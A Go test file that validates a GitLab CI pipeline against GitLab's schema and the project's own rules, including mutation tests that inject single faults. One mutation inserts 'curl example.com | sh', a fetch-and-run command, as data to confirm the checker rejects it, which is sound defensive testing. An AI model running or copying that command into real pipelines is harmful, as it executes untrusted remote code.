package main

import (
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"testing"

	"github.com/santhosh-tekuri/jsonschema/v6"
	"go.yaml.in/yaml/v3"
)

// A gitlabJob is what this project asks of a job of docs/gitlab-ci.yml. GitLab's own schema (testdata/README.md) judges
// keywords and their values.
type gitlabJob struct {
	Stage       string            `yaml:"stage"`
	Script      []string          `yaml:"script"`
	Variables   map[string]string `yaml:"variables"`
	Environment yaml.Node         `yaml:"environment"`
	Group       string            `yaml:"resource_group"`
	Needs       []string          `yaml:"needs"`
	Rules       []struct {
		If   string `yaml:"if"`
		When string `yaml:"when"`
	} `yaml:"rules"`
}

// againstSchema returns what GitLab's schema refuses in a pipeline.
func againstSchema(t *testing.T, text []byte) error {
	t.Helper()
	const file = "testdata/gitlab-ci.schema.json"
	schema, err := jsonschema.NewCompiler().Compile(file)
	if err != nil {
		t.Fatal(err)
	}
	var pipeline any
	if err := yaml.Unmarshal(text, &pipeline); err != nil {
		return err
	}
	asJSON, err := json.Marshal(pipeline)
	if err != nil {
		return err
	}
	value, err := jsonschema.UnmarshalJSON(bytes.NewReader(asJSON))
	if err != nil {
		return err
	}
	return schema.Validate(value)
}

var deliverTask = regexp.MustCompile(`(?m)^([a-z|]+)\)`)

// gitlabPipeline returns the jobs of a pipeline for GitLab, and what breaks this project's own rules. tasks are those
// of .ci/deliver.
func gitlabPipeline(text []byte, tasks []string) (jobs map[string]gitlabJob, problems []string) {
	var file map[string]yaml.Node
	if err := yaml.Unmarshal(text, &file); err != nil {
		return nil, []string{err.Error()}
	}
	var stages []string
	jobs = map[string]gitlabJob{}
	for name, node := range file {
		if name == "stages" {
			if err := node.Decode(&stages); err != nil {
				problems = append(problems, "stages: "+err.Error())
			}
			continue
		}
		var job gitlabJob
		if err := node.Decode(&job); err != nil {
			problems = append(problems, name+": "+err.Error())
		}
		jobs[name] = job
	}
	for name, job := range jobs {
		for _, problem := range job.problems(name, stages, jobs, tasks) {
			problems = append(problems, name+": "+problem)
		}
	}
	slices.Sort(problems)
	return jobs, problems
}

func (j gitlabJob) problems(name string, stages []string, jobs map[string]gitlabJob, tasks []string) []string {
	if name == "default" {
		return nil
	}
	var problems []string
	if !slices.Contains(stages, j.Stage) {
		problems = append(problems, "stage "+j.Stage+" is none of the pipeline")
	}
	if len(j.Script) != 1 || !slices.Contains([]string{".ci/run", ".ci/deliver"}, j.Script[0]) {
		problems = append(problems, "runs something else than .ci/run or .ci/deliver")
	}
	if task := j.Variables["TASK"]; slices.Contains(j.Script, ".ci/deliver") && !slices.Contains(tasks, task) {
		problems = append(problems, "task "+task+" is none of .ci/deliver")
	}
	for _, needed := range j.Needs {
		if _, found := jobs[needed]; !found {
			problems = append(problems, "needs "+needed+", which is no job")
		}
	}
	for _, rule := range j.Rules {
		if rule.If == "" || !slices.Contains([]string{"", "manual"}, rule.When) {
			problems = append(problems, "has a rule without a condition, or when: "+rule.When)
		}
	}
	// Two deploys of a stage never run at once, and each is approved as the stage's environment says.
	stage, deploys := j.Variables["STAGE"], j.Variables["TASK"] == "deploy"
	if deploys && (j.Environment.Value != stage || j.Group != stage) {
		problems = append(problems, "deploys without its environment and its resource group")
	}
	return problems
}

func gitlabFile(t *testing.T) (pipeline []byte, tasks []string) {
	t.Helper()
	root := filepath.Join("..", "..")
	pipeline, err := os.ReadFile(filepath.Join(root, "docs", "gitlab-ci.yml"))
	if err != nil {
		t.Fatal(err)
	}
	deliver, err := os.ReadFile(filepath.Join(root, ".ci", "deliver"))
	if err != nil {
		t.Fatal(err)
	}
	for _, found := range deliverTask.FindAllSubmatch(deliver, -1) {
		tasks = append(tasks, string(found[1]))
	}
	return pipeline, tasks
}

func TestPipelineForGitLabIsWellFormed(t *testing.T) {
	text, tasks := gitlabFile(t)
	jobs, problems := gitlabPipeline(text, tasks)
	for _, problem := range problems {
		t.Error(problem)
	}
	if err := againstSchema(t, text); err != nil {
		t.Errorf("GitLab's schema refuses it: %v", err)
	}
	for _, name := range []string{"default", "check", "differences", "dev", "staging", "prod"} {
		if _, found := jobs[name]; !found {
			t.Errorf("there is no job %s", name)
		}
	}
	if prod := jobs["prod"]; len(prod.Rules) != 1 || prod.Rules[0].When != "manual" {
		t.Error("prod is deployed without anybody's approval")
	}
}

func TestMistakeInThePipelineForGitLabIsFound(t *testing.T) {
	text, tasks := gitlabFile(t)
	// changed is the pipeline with one change.
	changed := func(from, to string) []byte {
		after := bytes.Replace(text, []byte(from), []byte(to), 1)
		if bytes.Equal(after, text) {
			t.Errorf("%q is not in the pipeline", from)
		}
		return after
	}
	for from, to := range map[string]string{
		"stage: check":           "stage: chek",
		"- .ci/deliver":          "- curl example.com | sh",
		"TASK: deploy":           "TASK: deplyo",
		"needs: [staging]":       "needs: [stage]",
		"when: manual":           "when: always",
		"environment: Prod":      "environment: Dev",
		"resource_group: Prod\n": "",
	} {
		if _, problems := gitlabPipeline(changed(from, to), tasks); len(problems) == 0 {
			t.Errorf("%q instead of %q breaks no rule of this project", to, from)
		}
	}
	for from, to := range map[string]string{
		"script:\n    - .ci/":    "scripts:\n    - .ci/",
		"resource_group: Prod":   "resource_groups: Prod",
		"id_tokens: {}":          "id_token: {}",
		"action: access":         "action: acces",
		"when: manual":           "when: manually",
		"paths: [":               "path: [",
		"matrix:":                "matrixes:",
		"stages: [":              "stages: {",
		"aud: sts.amazonaws.com": "audience: sts.amazonaws.com",
		"image: golang":          "images: golang",
	} {
		if err := againstSchema(t, changed(from, to)); err == nil {
			t.Errorf("%q instead of %q passes GitLab's schema", to, from)
		}
	}
}
